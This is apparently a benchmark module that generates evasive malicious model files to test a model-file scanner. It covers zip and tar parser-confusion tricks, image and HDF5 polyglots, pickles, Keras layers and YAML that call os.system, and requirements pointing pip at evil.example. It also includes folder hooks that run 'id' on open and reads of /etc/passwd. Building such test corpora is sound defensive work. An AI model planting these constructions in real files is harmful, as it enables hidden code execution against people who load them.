"""Harmful files in the corners of their formats, made as by an attacker who reads the scanner."""

from __future__ import annotations

import base64
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

from benchmarks.scan.sample import Sample
from tests.scan import test_chains, test_hdf5_outside, test_spellings
from tests.scan.corpus import npy, proto, system, zipped
from tests.scan.messages import field
from tests.scan.test_folders import MLMODEL
from tests.scan.test_folders import tar as tarred
from tests.scan.test_formats import hdf5, onnx_model
from tests.scan.test_formats import keras as keras_archive

EVIL, CLEAN = system(), proto(2) + b"}."
LOCAL, CENTRAL, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
LAMBDA = {"class_name": "Lambda", "config": {"function": ["4wEA", None, None]}}
PLAIN = {"class_name": "Dense", "config": {"units": 1}}
SCHEMA = json.dumps({"__class__": "function", "__module__": "builtins", "__loader__":
    "FunctionNode", "content": {"module_path": "os", "function": "system"}}).encode()  # fmt: skip


def two_directories(first: bytes, second: bytes, name: str) -> bytes:
    """A zip with a directory where its end says, and another right before its end.

    Readers that trust the offset see the first member; Python's zipfile sees the second.
    """
    one, two = (zipped([(name, body)]) for body in (first, second))
    parts = [(raw[: raw.find(CENTRAL)], raw[raw.find(CENTRAL) : raw.rfind(END)])
             for raw in (one, two)]  # fmt: skip
    (member, listed), (other, again) = parts
    head = member + listed
    shift = len(head) + len(other) - len(member)  # what zipfile adds to every offset
    again = again[:42] + struct.pack("<i", len(head) - shift) + again[46:]
    end = one[one.rfind(END) :]
    end = end[:12] + struct.pack("<II", len(again), len(member)) + end[20:]
    return head + other + again + end


def _decoys(count: int) -> bytes:
    """Local headers by a method that nobody has, before a member that the directory leaves out."""
    fake = LOCAL + struct.pack("<HHHHHIIIHH", 20, 0, 99, 0, 0, 0, 0, 0, 0, 0)
    hidden = zipped([("m/data.pkl", EVIL)])
    return fake * count + hidden[: hidden.find(CENTRAL)]


def _before(head: bytes, archive: bytes) -> bytes:
    """Put bytes before the members of a zip archive, its offsets corrected."""
    raw = bytearray(archive)
    for at in (archive.find(CENTRAL) + 42, archive.rfind(END) + 16):
        raw[at : at + 4] = struct.pack("<I", struct.unpack("<I", raw[at : at + 4])[0] + len(head))
    return head + bytes(raw)


def _renamed(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    return data.replace(old, new)


def _extra(name: str, body: bytes, extra: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.extra = extra
        archive.writestr(info, body)
    return buffer.getvalue()


def zips() -> Iterator[Sample]:
    family, why = "corners: zip", "os.system runs for the readers that find this member"
    yield Sample(
        family, "two-directories.pt", two_directories(CLEAN + bytes(99), EVIL, "m/data.pkl"), why
    )
    arrays = two_directories(npy(bytes(99), "'|V99'"), npy(EVIL), "x.npy")
    yield Sample(family, "two-directories.npz", arrays, why)
    listed = zipped([("m/data.pkl", CLEAN)])
    yield Sample(family, "decoys.pt", _before(_decoys(1000), listed), why)
    loads = "skops loads os.system by this schema"
    schema = _renamed(zipped([("schema.json#x", SCHEMA)]), b"json#x", b"json\0x")
    yield Sample(family, "nul.skops", schema, loads)
    named = b"schema.json"
    path = struct.pack("<HHBI", 0x7075, 5 + len(named), 1, zlib.crc32(b"x.json")) + named
    yield Sample(family, "unicode-path.skops", _extra("x.json", SCHEMA, path), loads)


def _sparse() -> bytes:
    """A tar member with holes: what is packed is a clean pickle, what is unpacked is not."""
    # SHORT_BINBYTES of 99 bytes as it is packed; of none where a hole of one byte is filled in.
    packed = proto(3) + b"C" + (b"cos\nsystem\n(X\4\0\0\0truetR.").ljust(100) + b"."
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("model.pkl")
        info.size = len(packed)
        info.pax_headers = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1",
                            "GNU.sparse.size": f"{len(packed) + 1}",
                            "GNU.sparse.map": f"0,3,4,{len(packed) - 3}",
                            "GNU.sparse.numblocks": "2"}  # fmt: skip
        archive.addfile(info, io.BytesIO(packed))
    return buffer.getvalue()


def tars() -> Iterator[Sample]:
    family = "corners: tar"
    whole, evil = tarred({"readme.txt": b"text"}), tarred({"data.pkl": EVIL})
    members = whole[:1024]
    broken = members + b"\xff" * 512 + evil
    yield Sample(family, "broken-header.tar", broken, "hides data.pkl from Python's tarfile alone")
    yield Sample(family, "after-end.tar", members + bytes(1024) + evil,
                 "hides data.pkl from readers that stop at the end mark")  # fmt: skip
    yield Sample(family, "sparse.tar", _sparse(), "unpacks to other bytes than are packed")


def images() -> Iterator[Sample]:
    model = hdf5(b"model_config", {"class_name": "Sequential", "config": {"layers": [LAMBDA]}})
    for key, head in (("gif", b"GIF89a"), ("png", b"\x89PNG\r\n\x1a\n"), ("jpeg", b"\xff\xd8\xff")):
        data = head.ljust(2048, b"\0") + model
        why = "is an HDF5 model behind a user block, whose Lambda layer runs code"
        yield Sample("corners: polyglots", f"{key}.h5", data, why)
    for shift in range(3):
        text = base64.b64encode(b"x" * shift + b"arrow.py_extension_type" + bytes(9))
        data = b"PAR1" + bytes(64) + b"ARROW:schema" + text + b"PAR1"
        why = "unpickles a column type when an old pyarrow reads it (CVE-2023-47248)"
        yield Sample("corners: polyglots", f"{shift}.parquet", data, why)


def keras_corners() -> Iterator[Sample]:
    family = "corners: Keras"
    decoy = json.dumps(PLAIN).encode()
    spaced = json.dumps({"class_name": "Sequential", "config": {"layers": [LAMBDA]}}, indent=1)
    data = hdf5(b"model_config", {}) + decoy + bytes(8) + spaced.encode() + bytes(8)
    yield Sample(family, "spaced.h5", data, "runs the code of a Lambda layer")
    for key, layer, why in (
        ("torch", {"class_name": "TorchModuleWrapper", "config": {"module": {"class_name":
         "__bytes__", "config": {"value": "gAJ9Lg=="}}}}, "unpickles a module of torch"),
        ("lookup", {"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
         "reads a file into its vocabulary"),
        ("lookup-url", {"class_name": "TextVectorization", "config": {"vocabulary":
         "gs://evil/x"}}, "fetches a file of another host"),
    ):  # fmt: skip
        layer = {"module": "keras.layers", "registered_name": None, **layer}
        model = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
        yield Sample(family, f"{key}.keras", keras_archive(model), why)


def configurations() -> Iterator[Sample]:
    remote = {"auto_map": {"AutoModel": "evil/repo--m.Model"}}
    for key, value, why in (
        ("learner", {"learner": {}, "version": [1], **remote}, "fetches and runs code"),
        ("trust", {"trust_remote_code": 1}, "switches remote code on"),
        ("template", {"chat_template": {"name": "{{ x.__class__.__mro__ }}"}},
         "reaches Python's internals"),
        ("shards", {"weight_map": {"w": "../../other/evil.bin"}}, "loads a file outside"),
        ("loader", {"flavors": {"python_function": {"loader_module": "evil"}}},
         "MLflow imports a module of the attacker"),
    ):  # fmt: skip
        data = json.dumps(value, separators=(",", ":")).encode()
        name = "MLmodel" if key == "loader" else f"{key}.json"
        yield Sample("corners: JSON", name, data, why)


def yamls() -> Iterator[Sample]:
    many = "".join(f"l{i}: {{_target_: torch.nn.Linear}}\n" for i in range(200))
    for key, text in {
        "next-line": "net:\n  _target_:\n    os.system\n",
        "question": "? _target_\n: os.system\n",
        "tight": 'net: {"_target_":"os.system"}\n',
        "many": many + "net: {_target_: os.system}\n",
        "alias": "key: &t _target_\nnet:\n  *t : os.system\n",
        "tags": "a: !foo:bar x\n" * 200 + "b: !!python/object/apply:os.system ['true']\n",
        "merged": "a: [&t _target_, 1]\nnet: {*t : os.system}\n",
    }.items():
        yield Sample("corners: YAML", f"{key}.yaml", text.encode(), "calls os.system")
    evil = MLMODEL.replace("mlflow.sklearn", "evil")
    pad = "#" * 79 + "\n"
    for key, text in {
        "late": pad * (52_500) + evil,
        "question": evil.replace("loader_module: evil", "? loader_module\n    : evil"),
        "escaped": evil.replace("loader_module:", '"loader\\x5fmodule":'),
        "escaped-top": evil.replace("flavors:", '"flavor\\x73":'),
    }.items():
        data = zipped([("MLmodel", text.encode())], packed=True)
        yield Sample("corners: YAML", f"mlflow-{key}.zip", data, "MLflow imports evil")


def requirements() -> Iterator[Sample]:
    for index, text in enumerate((
        "#" * 5_000_000 + "\n-i https://evil.example\n", "--extra-\\\nindex-url=https://evil.example\n",
        "-r https://evil.example/r.txt\n", "-e git+https://evil.example/x\n",
        "-ihttps://evil.example\n", "--extra https://evil.example\n",
        "x[a,b] @ https://evil.example/x.whl\n", "x @ HTTPS://evil.example/x.whl\n",
        "--editable=git+https://evil.example/x\n", "numpy \\\n  --index-url https://evil.example\n",
        "-c http://evil.example/c.txt\n",
    )):  # fmt: skip
        data = zipped([("requirements.txt", text.encode())], packed=True)
        why = "installs packages from elsewhere"
        yield Sample("corners: text", f"requirements-{index}.zip", data, why)
    flow = "dependencies: [python, {pip: [numpy, 'git+https://evil.example/x']}]\n"
    yield Sample("corners: text", "conda.yaml", flow.encode(), why)
    made = json.dumps({"dependencies": ["python", {"pip": ["x @ https://evil.example/x.whl"]}]})
    yield Sample("corners: text", "conda.json", made.encode(), why)


TEXT_GRAPH = """saved_model_schema_version: 1
meta_graphs { graph_def { node { name: "x" op: "%s" } } }
"""
TEXT_ONNX = """ir_version: 8
graph { node { output: "y" op_type: "%s" domain: "%s" } initializer { data_type: 1 name: "w"
  external_data { key: "location" value: "%s" } data_location: EXTERNAL } }
opset_import { domain: "" version: 18 }
"""


def texts() -> Iterator[Sample]:
    for operator in ("WriteFile", "PyFunc"):
        data = (TEXT_GRAPH % operator).encode()
        yield Sample("corners: text", f"{operator}.pbtxt", data, f"runs the operator {operator}")
    data = (TEXT_ONNX % ("PyOp", "ai.onnx.contrib", "w.bin")).encode()
    yield Sample("corners: text", "python.textproto", data, "runs Python operators")
    data = (TEXT_ONNX % ("Add", "", "../../etc/passwd")).encode()
    yield Sample("corners: text", "outside.textproto", data, "reads a file outside")
    hook = b'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "sh -c id"\n'
    for name, body, why in (
        ("config", hook, "git runs a command in this folder"),
        (".envrc", b"export X=$(id)\n", "direnv runs it in this folder"),
        (".Rprofile", b"system('id')\n", "R runs it when started in this folder"),
        (".pdbrc", b"!import os\n", "pdb runs it when started in this folder"),
        (".gdbinit", b"shell id\n", "gdb runs it when started in this folder"),
        ("Makefile", b"all:\n\tid\n", "make runs it"),
        ("tasks.json", json.dumps({"version": "2.0.0", "tasks": [{"command": "id", "runOptions":
         {"runOn": "folderOpen"}}]}).encode(), "an editor runs it when it opens the folder"),
        ("devcontainer.json", json.dumps({"postCreateCommand": "id"}).encode(),
         "an editor runs it when it opens the folder"),
        ("pip.conf", b"[global]\nindex-url = https://evil.example\n", "pip installs from there"),
        ("run.hta", b"<script>x</script>\n", "Windows runs it"),
    ):  # fmt: skip
        yield Sample("corners: automatic", name, body, why)


def onnx_corners() -> Iterator[Sample]:
    inner = onnx_model(domain=b"ai.onnx.contrib")
    yield Sample(
        "corners: polyglots", "in-npz.npz", zipped([("x.npy", inner)]), "runs Python operators"
    )
    data = inner + field(7, 1)
    yield Sample("corners: polyglots", "two-kinds.onnx", data, "runs Python operators")


def composed() -> Iterator[Sample]:
    """Nothing but names that harmless files need, put together so that they act."""
    why = "makes numpy take bytes for addresses"
    for key, kind in test_chains.DTYPES.items():
        for protocol in (2, 5):
            data = pickle.dumps(test_chains.array(kind, b"A" * 8), protocol)
            yield Sample("corners: dtypes", f"{key}-{protocol}.pkl", data, why)
    for key, value in test_chains.LATER.items():
        why = "writes, evaluates or calls what it holds when loaded, iterated or used"
        yield Sample("corners: composed", f"{key}.pkl", pickle.dumps(value, 4), why)


def outside_files() -> Iterator[Sample]:
    for key, packed in test_hdf5_outside.FILES.items():
        if test_hdf5_outside.SAID[key] != "clean":
            data = zlib.decompress(base64.b85decode(packed))
            yield Sample("corners: HDF5", f"{key}.h5", data, "takes its content from other files")


def spellings() -> Iterator[Sample]:
    why = "acts in a spelling that its reader understands"
    for key, (name, data, _) in test_spellings.HARMFUL.items():
        yield Sample("corners: spellings", f"{key}/{name}", data, why)


CORNERS: tuple[Callable[[], Iterator[Sample]], ...] = (
    zips, tars, images, keras_corners, configurations, yamls, requirements, texts, onnx_corners,
    composed, outside_files, spellings,
)  # fmt: skip
